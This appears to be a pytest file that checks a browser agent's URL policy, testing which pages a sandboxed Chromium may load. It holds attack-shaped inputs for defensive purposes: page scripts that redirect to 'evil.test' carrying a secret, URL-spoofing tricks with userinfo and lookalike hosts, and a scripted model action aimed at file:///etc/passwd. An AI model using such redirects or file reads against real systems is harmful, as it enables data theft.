"""The policy in the browser: a real run, and a real Chromium told by a policy where pages may be."""

from pathlib import Path
from typing import Any

import harness
import pytest
from harness.action import Goto, NewTab, Wait
from harness.clearance import Reply
from harness.policy.chromium import reach
from harness.policy.urls import parse
from harness.sandbox.bubblewrap import BubblewrapSandbox
from harness.testing import ScriptedModel
from harness.trace.reader import Trace
from playwright.async_api import Error
from tests.sandbox.places import opened

DOMAINS = [
    "http://shop.test",
    "http://shop.test:8080",
    "http://*.cdn.test",
    "http://*.deep.cdn.test:81/x*",
    "http://paths.test/app/*",
    "http://paths.test/Exact",
    "http://paths.test/caf%C3%A9/*",
    "http://10.0.0.5",
    "http://[::1]:8000/a*",
    "http://localhost",
    "http://xn--bcher-kva.test",
    "http://under_score.test",
]
WITHIN = [
    "http://shop.test/",
    "http://SHOP.test/a?b=c#d",
    "http://shop.test:8080/",
    "http://a.cdn.test/",
    "http://b.a.cdn.test/x",
    "http://a.deep.cdn.test:81/xy",
    "http://paths.test/app/",
    "http://paths.test/app/a/b?c",
    "http://paths.test/app/%7Ea",
    "http://paths.test/Exact",
    "http://10.0.0.5/",
    "http://0x0a000005/x",
    "http://[::1]:8000/ab",
    "http://[0:0:0:0:0:0:0:1]:8000/a",
    "http://localhost/",
    "http://b\u00fccher.test/",
    "http://under_score.test/",
]
OUTSIDE = [
    "http://evil.test/",
    "http://a.shop.test/",
    "http://shop.test:81/",
    "https://shop.test/",
    "http://xcdn.test/",
    "http://paths.test/exact",
    "http://paths.test/other",
    "http://10.0.0.6/",
    "http://[::1]/",
    "http://[::2]:8000/a",
    "http://shop.test@evil.test/",
    "http://shop.test.evil.test/",
]
WIDER = [
    "http://cdn.test/",
    "http://paths.test/caf\u00e9/x",
    "http://paths.test/Exactly",
    "http://a.localhost.cdn.test/",
]
BLOCKED = "net::ERR_BLOCKED_BY_ADMINISTRATOR"


async def test_chromium_loads_what_the_policy_allows_and_blocks_what_it_can_tell() -> None:
    policy = harness.Policy.model_validate({"name": "p", "domains": {"navigate": DOMAINS}})
    filters = reach(policy)
    assert filters is not None
    for url in [*WITHIN, *OUTSIDE]:
        address = parse(url)
        within = address is not None and not address.userinfo and policy.domains.visited.admits(address)
        assert within == (url in WITHIN), url
    async with opened(BubblewrapSandbox, reach=filters) as (sandbox, _, _):
        page = await (await sandbox.browser.new_context()).new_page()
        blocked = []
        for url in [*WITHIN, *OUTSIDE, *WIDER]:
            try:
                await page.goto(url, timeout=10_000)
            except Error as error:
                await page.wait_for_url(lambda shown: shown.startswith("chrome-error:"), timeout=10_000)
                blocked += [url] if BLOCKED in error.message else []
    assert blocked == OUTSIDE


SITE = "<!doctype html><title>Site</title><h1>Here</h1><script>{}</script>"


async def run(
    tmp_path: Path, script: str, *, navigate: str, actions: tuple[Any, ...] = (Wait(seconds=0.2),)
) -> tuple[harness.Result, list[Any]]:
    site = tmp_path / "site"
    site.mkdir()
    (site / "index.html").write_text(SITE.format(script), "utf-8")
    result = await harness.run(
        harness.Task(name="t", goal="Look.", start="https://shop.test/", hosts={"shop.test": f"dir:{site}"}),
        model=ScriptedModel([Reply(actions=actions), *(Wait(seconds=0.2) for _ in range(5))]),
        policy=harness.Policy.model_validate(
            {
                "name": "p",
                "domains": {"navigate": ["shop.test"]},
                "default": {"action": "allow", "request": "allow", "navigate": navigate},
            }
        ),
        sandbox="bubblewrap",
        approver="deny",
        traces=tmp_path / "traces",
    )
    return result, [one.event for one in Trace.open(Path(result.trace)).events]


async def test_a_page_that_leaves_is_blocked_in_the_browser_and_in_the_trace(tmp_path: Path) -> None:
    script = "setTimeout(() => { location = 'https://evil.test/?secret' })"
    result, events = await run(tmp_path, script, navigate="deny")
    refused = [one for one in events if one.kind == "requested" and one.verdict.outcome == "deny"]
    assert [(one.request.url, one.request.resource, one.verdict.rule) for one in refused] == [
        ("https://evil.test/?secret", "document", "domains.navigate")
    ]
    assert result.verdicts["deny"] == 1


@pytest.mark.parametrize("navigate", ["ask", "stop"])
async def test_a_page_that_leaves_comes_to_the_gateway_where_more_than_no_is_meant(
    tmp_path: Path, navigate: str
) -> None:
    script = "setTimeout(() => { location = 'https://evil.test/' })"
    result, events = await run(tmp_path, script, navigate=navigate)
    met = [one for one in events if one.kind == "requested" and "evil.test" in one.request.url]
    assert {one.verdict.outcome for one in met} == {navigate}
    # The gateway has its headers: it was asked, and not the browser.
    assert all(one.request.headers for one in met)
    assert (result.exit_code == 3) is (navigate == "stop")


async def test_a_model_that_goes_elsewhere_is_refused_at_the_pointer_first(tmp_path: Path) -> None:
    actions = (Goto(url="file:///etc/passwd"), NewTab(url="chrome://version/"))
    _, events = await run(tmp_path, "", navigate="deny", actions=actions)
    judged = [one for one in events if one.kind == "judged" and one.verdict.outcome == "deny"]
    assert judged[0].verdict.rule == "domains.navigate"
    assert not any(one.kind == "requested" and "file:" in one.request.url for one in events)
